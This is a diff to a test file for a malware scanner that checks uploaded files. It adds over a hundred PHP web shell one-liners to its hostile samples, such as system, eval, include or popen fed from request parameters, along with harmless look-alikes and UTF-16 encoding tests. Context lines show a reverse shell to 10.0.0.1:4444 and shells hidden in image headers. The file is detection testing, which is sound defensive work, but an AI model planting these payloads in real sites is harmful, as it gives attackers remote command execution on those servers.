@@ -46,6 +46,119 @@ const hostile: readonly Row[] = [
   [PHP, '<?php // c99sh¦_getupdate c99sh¦cook\nfunction c99ftp¦brutecheck() {}'],
   [PHP, "<?php define('WSO_¦VERSION', '2.5'); $auth_¦pass = ''; function action¦SecInfo() {} // Files¦Man"],
   [PHP, "<?php file_put_¦contents($_G¦ET['n'], base64_decode($_PO¦ST['d']));"],
+  [PHP, '<?=`$_G¦ET[0]`?>'],
+  [PHP, '<?=`$_G¦ET[0]`;'],
+  [PHP, '<?= `{$_G¦ET["c"]}` ?>'],
+  [PHP, '<?php echo `$_PO¦ST[c] 2>&1`;'],
+  [PHP, '<?php `$_G¦ET[0]`;'],
+  [PHP, "<?php include($_G¦ET['f']);"],
+  [PHP, "<?php include $_G¦ET['f'];"],
+  [PHP, "<?php @include_once $_COO¦KIE['x']; ?>"],
+  [PHP, "<?php require $_PO¦ST['x'];"],
+  [PHP, '<?=include($_G¦ET[0])?>'],
+  [PHP, '<?php echo file_get_contents(\'a\'); include "$_G¦ET[f]";'],
+  [PHP, "<?php popen($_G¦ET['c'], 'r');"],
+  [PHP, "<?php echo fread(popen($_G¦ET['c'], 'r'), 4096);"],
+  [PHP, "<?php $h = popen($_PO¦ST['c'],'r'); echo stream_get_contents($h);"],
+  [PHP, "<?php pcntl_exec($_REQ¦UEST['p'], $_REQ¦UEST['a']);"],
+  [PHP, "<?php pcntl_exec('/bin/sh', ['-c', $_REQ¦UEST['c']]);"],
+  [PHP, '<?php pcntl_exec("/bin/bash", array("-c", $_G¦ET["c"]));'],
+  [PHP, "<?php array_map($_G¦ET['f'], [$_G¦ET['a']]);"],
+  [PHP, "<?php array_map($_G¦ET['f'], $_G¦ET['a']);"],
+  [PHP, "<?php array_map($_G¦ET['f'], array($_G¦ET['a']));"],
+  [PHP, "<?php array_map($_G¦ET['f'], ['id']);"],
+  [PHP, "<?php call_user_func($_PO¦ST['f'], $_PO¦ST['a']);"],
+  [PHP, "<?php call_user_func($_PO¦ST['f'], 'id');"],
+  [PHP, "<?php call_user_func($_PO¦ST['f']);"],
+  [PHP, "<?php call_user_func_array($_PO¦ST['f'], [$_PO¦ST['a']]);"],
+  [PHP, "<?php call_user_func('system', $_PO¦ST['a']);"],
+  [PHP, "<?php call_user_func_array('system', [$_PO¦ST['a']]);"],
+  [PHP, "<?php usort($_G¦ET, $_G¦ET['f']);"],
+  [PHP, '<?php usort(...$_G¦ET);'],
+  [PHP, "<?php $a = ['id','id']; usort($a, $_G¦ET['f']);"],
+  [PHP, "<?php usort($_PO¦ST['a'], 'system');"],
+  [PHP, "<?php uasort($a, $_PO¦ST['f']);"],
+  [PHP, "<?php uksort($a, $_REQ¦UEST['f']);"],
+  [PHP, "<?php array_filter([$_G¦ET['a']], $_G¦ET['f']);"],
+  [PHP, "<?php array_filter(array($_PO¦ST['a']), 'assert');"],
+  [PHP, "<?php array_walk($_PO¦ST, $_G¦ET['f']);"],
+  [PHP, "<?php array_reduce([1], $_G¦ET['f'], $_G¦ET['a']);"],
+  [PHP, "<?php array_walk_recursive($a, $_G¦ET['f']);"],
+  [PHP, "<?php register_shutdown_function($_G¦ET['f'], $_G¦ET['a']);"],
+  [PHP, "<?php register_shutdown_function('system', $_G¦ET['a']);"],
+  [PHP, "<?php register_tick_function($_G¦ET['f'], $_G¦ET['a']);"],
+  [PHP, "<?php set_error_handler($_G¦ET['f']); trigger_error($_G¦ET['a']);"],
+  [PHP, "<?php preg_replace_callback('/.+/', $_G¦ET['f'], $_G¦ET['a']);"],
+  [PHP, "<?php ob_start($_G¦ET['f']); echo $_G¦ET['a']; ob_end_flush();"],
+  [PHP, "<?php iterator_apply($it, $_G¦ET['f'], [$_G¦ET['a']]);"],
+  [PHP, "<?php forward_static_call($_G¦ET['f'], $_G¦ET['a']);"],
+  [PHP, "<?php forward_static_call_array($_G¦ET['f'], [$_G¦ET['a']]);"],
+  [PHP, "<?php $f = create_function('', $_PO¦ST['c']); $f();"],
+  [PHP, "<?php create_function('$a', base64_decode($_PO¦ST['c']));"],
+  [PHP, "<?php assert($_G¦ET['a']);"],
+  [PHP, '<?php assert($_REQ¦UEST[a]);'],
+  [PHP, "<?php preg_replace('/.*/e', $_PO¦ST['x'], '');"],
+  [PHP, "<?php preg_replace(\"#a#e\", $_G¦ET['c'], 'a');"],
+  [PHP, "<?php $_G¦ET['a']($_G¦ET['b']);"],
+  [PHP, "<?php ${'_G¦ET'}['a']($_G¦ET['b']);"],
+  [PHP, "<?php ${'_G'.'ET'}[0](${'_G'.'ET'}[1]);"],
+  [PHP, "<?php ${$_G¦ET['v']}($_G¦ET['b']);"],
+  [PHP, "<?php ($_G¦ET['a'])($_G¦ET['b']);"],
+  [PHP, "<?php $_G¦ET{'a'}($_PO¦ST{'b'});"],
+  [PHP, "<?php @$_PO¦ST['a']($_PO¦ST['b'], $_PO¦ST['c']);"],
+  [PHP, '<?php echo $_REQ¦UEST[0]($_REQ¦UEST[1]);'],
+  [PHP, '<?=$_G¦ET[0]($_G¦ET[1])?>'],
+  [PHP, '<?=@$_G¦ET[0]($_G¦ET[1]);'],
+  [PHP, "<?php $f=$_G¦ET['f']; $f($_G¦ET['a']);"],
+  [PHP, "<?php new $_G¦ET['c']($_G¦ET['a']);"],
+  [PHP, "<?php (new ReflectionFunction($_G¦ET['f']))->invoke($_G¦ET['a']);"],
+  [PHP, "<?php $r = new ReflectionFunction($_G¦ET['f']); $r->invoke($_G¦ET['a']);"],
+  [PHP, "<?php proc_open($_G¦ET['c'], [], $p);"],
+  [PHP, "<?php $p = proc_open($_REQ¦UEST['c'], $spec, $pipes);"],
+  [PHP, "<?php shell_exec($_G¦ET['c']);"],
+  [PHP, "<?php echo shell_exec($_G¦ET['c']);"],
+  [PHP, "<?php passthru($_G¦ET['c']);"],
+  [PHP, "<?php system($_G¦ET['c']);"],
+  [PHP, "<?php exec($_G¦ET['c'], $o); print_r($o);"],
+  [PHP, "<?php die(system($_G¦ET['c']));"],
+  [PHP, "<?php print_r(shell_exec($_G¦ET['c']));"],
+  [PHP, "<?php var_dump(exec($_G¦ET['c']));"],
+  [PHP, "<?php if(isset($_G¦ET['c'])) system($_G¦ET['c']);"],
+  [PHP, "<?php if(isset($_G¦ET['c'])){ system($_G¦ET['c']); }"],
+  [PHP, "<?php system($_G¦ET['c'] . ' 2>&1');"],
+  [PHP, "<?php system('cmd /c ' . $_G¦ET['c']);"],
+  [PHP, '<?php system("/bin/sh -c " . $_G¦ET[\'c\']);'],
+  [PHP, '<?php system("{$_G¦ET[\'c\']}");'],
+  [PHP, '<?php system("$_G¦ET[c] 2>&1");'],
+  [PHP, "<?php \\system($_G¦ET['c']);"],
+  [PHP, "<?php eval($_G¦ET['c']);"],
+  [PHP, "<?php eval('?>' . $_PO¦ST['c']);"],
+  [PHP, '<?php eval("{$_PO¦ST[\'c\']}");'],
+  [PHP, "<?php @eval(base64_decode($_PO¦ST['c']));"],
+  [PHP, "<?php $c = $_G¦ET['c']; system($c);"],
+  [PHP, "<?php\n$c = $_G¦ET['c'];\nsystem($c);"],
+  [PHP, "<?php\n$cmd = isset($_G¦ET['c']) ? $_G¦ET['c'] : '';\nsystem($cmd);"],
+  [PHP, "<?php\n$cmd = $_G¦ET['c'] ?? 'id';\necho shell_exec($cmd);"],
+  [PHP, "<?php include 'data://text/plain;base64,' . $_G¦ET['c'];"],
+  [PHP, "<?php include(base64_decode($_G¦ET['f']));"],
+  [PHP, "<? system($_G¦ET['c']); ?>"],
+  [PHP, "<?PHP SYSTEM($_G¦ET['c']); ?>"],
+  [PHP, "<?php sYsTeM($_G¦ET['c']);"],
+  [PHP, "<?php array_map('system', $_G¦ET);"],
+  [PHP, "<?php array_map('assert', [$_PO¦ST['x']]);"],
+  [PHP, "<?php array_map('passthru', (array) $_G¦ET['c']);"],
+  [PHP, "<?php exec(getall¦headers()['X']);"],
+  [PHP, "<?php system(getenv('HT¦TP_X_CMD'));"],
+  [PHP, "<?php eval(getall¦headers()['X']);"],
+  [PHP, "<?php system($_SERVER['HT¦TP_X']);"],
+  [PHP, '<?php system(end($_G¦ET));'],
+  [PHP, '<?php system(current($_PO¦ST));'],
+  [PHP, "<?php system(filter_input(INPUT_G¦ET, 'c'));"],
+  [PHP, "<?php echo system(file_get_contents('php://in¦put'));"],
+  [PHP, "<?php include 'php://in¦put';"],
+  [PHP, "<?php 'system'($_G¦ET['c']);"],
+  [PHP, "<?php ('sys'.'tem')($_G¦ET['c']);"],
+  [PHP, '<?php "system"($_G¦ET[\'c\']);'],
   ['image/gif', "GIF89a....<?php ev¦al($_PO¦ST['x']); ?>"],
   ['image/jpeg', "\xff\xd8\xff\xe1 Exif <?php sys¦tem($_G¦ET['c']); ?>"],
   [PHP, '<?php $s = fsock¦open("10.0.0.1", 4444); ex¦ec("/bin/sh -i <&3 >&3 2>&3");'],
@@ -207,6 +320,78 @@ const harmless: readonly Row[] = [
     PHP,
     "<?php\n$action = $_GET['action'];\n$handlers[$action]($_GET['id']);\nfile_put_contents($log, $_POST['text']);",
   ],
+  [
+    PHP,
+    "<?php\n$id = (int) $_GET['id'];\n$name = htmlspecialchars($_POST['name'] ?? '');\necho \"Hello $name\";",
+  ],
+  [
+    PHP,
+    "<?php\n$page = $_GET['page'] ?? 'home';\nif (!in_array($page, ['home', 'about'], true)) { $page = 'home'; }\ninclude \"pages/$page.php\";",
+  ],
+  [PHP, "<?php\ninclude 'pages/' . basename($_GET['page']) . '.php';"],
+  [PHP, "<?php\ninclude(__DIR__ . '/' . $_GET['lang'] . '.php');"],
+  [PHP, "<?php\nif (in_array($_GET['page'], $pages)) {\n  include $_GET['page'];\n}"],
+  [PHP, "<?php\nif (array_key_exists($_GET['page'], $pages)) { require $pages[$_GET['page']]; }"],
+  [PHP, "<?php\nrequire_once 'config.php';\n$user = $_POST['user'];"],
+  [
+    PHP,
+    "<?php\n$names = array_map('trim', $_POST['names']);\n$ids = array_map('intval', explode(',', $_GET['ids']));",
+  ],
+  [PHP, "<?php\n$clean = array_filter($_POST, 'strlen');\n$set = array_filter($_GET, fn ($v) => $v !== '');"],
+  [PHP, "<?php\nusort($rows, fn ($a, $b) => $a[$_GET['sort']] <=> $b[$_GET['sort']]);"],
+  [PHP, "<?php\nusort($rows, 'compare_' . $_GET['sort']);"],
+  [PHP, '<?php\narray_walk($_POST, function (&$v) { $v = trim($v); });'],
+  [PHP, "<?php\ncall_user_func([$this, $_GET['action']]);"],
+  [
+    PHP,
+    "<?php\n$actions = ['list' => 'listAll'];\nif (isset($actions[$_GET['do']])) call_user_func($actions[$_GET['do']], $_GET['id']);",
+  ],
+  [PHP, "<?php\n$controller = new $class($_GET['id']);"],
+  [PHP, "<?php\necho $formatter($_GET['value']);"],
+  [
+    PHP,
+    "<?php\n$text = preg_replace('/\\s+/', ' ', $_GET['q']);\n$out = preg_replace_callback('/@(\\w+)/', 'link_user', $_POST['text']);",
+  ],
+  [PHP, '<?php\n$text = preg_replace("#</?e#", $_GET[\'tag\'], $html);'],
+  [PHP, "<?php\n$e = preg_replace('/(<)/e', 'strtolower(\"$1\")', $text); $name = $_GET['name'];"],
+  [
+    PHP,
+    "<?php\n// call_user_func($_GET['f'], $_GET['a']) is a shell\n# include($_GET['f']);\n/* system($_GET['c']) */\n$bad = [\"include(\\$_GET['f']);\", 'popen($_GET[\"c\"])'];",
+  ],
+  [
+    PHP,
+    "<?php\n/**\n * Never write include($_GET['f']);\n * or `$_GET[0]` in backticks.\n */\nfunction check() {}",
+  ],
+  [PHP, '<?php\n$sql = "SELECT `$_GET[column]` FROM t";'],
+  [PHP, "<?php\n$sql = 'SELECT * FROM `' . $_GET['table'] . '`';"],
+  [PHP, "<?php\n$db->query(\"UPDATE t SET a = '{$_POST['a']}'\n  WHERE `id` = {$_POST['id']}\");"],
+  [
+    PHP,
+    "<?php\nregister_shutdown_function('cleanup', $_GET['id']);\nset_error_handler([$this, 'handle']);\nob_start('ob_gzhandler');",
+  ],
+  [PHP, "<?php\n$pipe = popen('gzip -c', 'w'); fwrite($pipe, $_POST['text']);"],
+  [
+    PHP,
+    "<?php\nexec('convert ' . escapeshellarg($_GET['file']) . ' out.png');\nsystem('ping -c 1 ' . escapeshellarg($_POST['host']));",
+  ],
+  [PHP, "<?php\n$handler = getenv('HANDLER'); exec('git pull'); $host = getenv('HTTP_HOST');"],
+  [
+    PHP,
+    "<?php\n$body = json_decode(file_get_contents('php://input'), true);\n$id = filter_input(INPUT_GET, 'id', FILTER_VALIDATE_INT);",
+  ],
+  [PHP, "<?php\nassert(isset($_GET['id']));\nassert(is_string($_GET['id']));"],
+  [PHP, "<?php\nreturn view('a', ['q' => $_GET['q']]);"],
+  [PHP, "<?php echo e('title') ($_GET['x'] ?? '') ?>"],
+  [PHP, "<?php\n__('hello')($_GET['x']);"],
+  [PHP, "<?php $x = array('a', 'b'); print($_GET['x']);\n$y = ('a' . 'b') . ($_GET['x']);"],
+  [PHP, "<?php\n$reflection = new ReflectionClass($_GET['c']);"],
+  [PHP, "<html><?php if ($_GET['x']): ?>\n'quoted' (<?= $_GET['y'] ?>)\n<?php endif ?>"],
+  [PHP, '<?php\n$sql = "SELECT\n`$_GET[column]` FROM t";'],
+  [PHP, '<?php $sql = "SELECT {$x} `$_GET[c]` FROM (a) `$_GET[t]`";'],
+  [
+    MARKDOWN,
+    "# Shells\n\n`<?=`$_G¦ET[0]`?>` and `include($_G¦ET['f'])`:\n\n```php\n<?php popen($_G¦ET['c'], 'r');\n```\n",
+  ],
   ['text/html', '<h1><%= title %></h1><p>Never write ev¦al(request("code")) in a page.</p>'],
   [
     'text/x-shellscript',
@@ -365,6 +550,26 @@ describe('refuses', () => {
     test(nameOf(text), async () => assert.equal((await scan(type, text)).verdict, 'infected'))
 })
 
+describe('refuses in UTF-16 without a byte order mark', () => {
+  for (const [type, text] of hostile.filter(([type]) => !type.startsWith('image/'))) {
+    test(nameOf(text), async () => {
+      const littleEndian = Buffer.from(text.replaceAll('¦', ''), 'utf16le')
+      const bigEndian = Buffer.from(littleEndian).swap16()
+      for (const bytes of [littleEndian, bigEndian])
+        assert.equal((await scanBytes(type, bytes)).verdict, 'infected')
+    })
+  }
+})
+
+test('refuses a shell that stands as it is behind a beginning in UTF-16, or behind its mark', async () => {
+  const shell = Buffer.from('\n<?php sys¦tem($_G¦ET["c"]);'.replaceAll('¦', ''))
+  for (const start of [
+    Buffer.from('<?php // a text\n'.repeat(200), 'utf16le'),
+    Buffer.from('\ufeff', 'utf16le'),
+  ])
+    assert.equal((await scanBytes(PHP, Buffer.concat([start, shell]))).verdict, 'infected')
+})
+
 describe('keeps', () => {
   for (const [type, text] of harmless)
     test(nameOf(text), async () =>
@@ -403,8 +608,12 @@ function nameOf(text: string): string {
     .slice(0, 60)
 }
 
-async function scan(mediaType: string, cut: string): Promise<Inspection> {
-  const bytes = Buffer.from(cut.replaceAll('¦', ''), mediaType.startsWith('image/') ? 'latin1' : 'utf8')
+function scan(mediaType: string, cut: string): Promise<Inspection> {
+  const encoding = mediaType.startsWith('image/') ? 'latin1' : 'utf8'
+  return scanBytes(mediaType, Buffer.from(cut.replaceAll('¦', ''), encoding))
+}
+
+async function scanBytes(mediaType: string, bytes: Buffer): Promise<Inspection> {
   const source = {
     size: bytes.length,
     read: (offset: number, length: number) => bytes.subarray(offset, offset + length),
